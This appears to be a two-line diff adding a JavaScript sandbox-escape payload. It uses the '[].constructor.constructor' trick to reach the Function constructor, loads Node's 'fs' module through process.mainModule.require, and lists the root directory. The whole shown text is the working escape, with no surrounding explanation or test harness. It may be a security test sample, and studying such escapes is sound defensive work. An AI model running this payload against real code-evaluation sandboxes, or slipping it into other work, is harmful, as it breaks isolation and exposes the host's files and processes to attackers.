@@ -1,0 +1,2 @@
+const out = [].constructor.constructor`return this.process.mainModule.require('fs')`();
+console.log(out.readdirSync('/'));
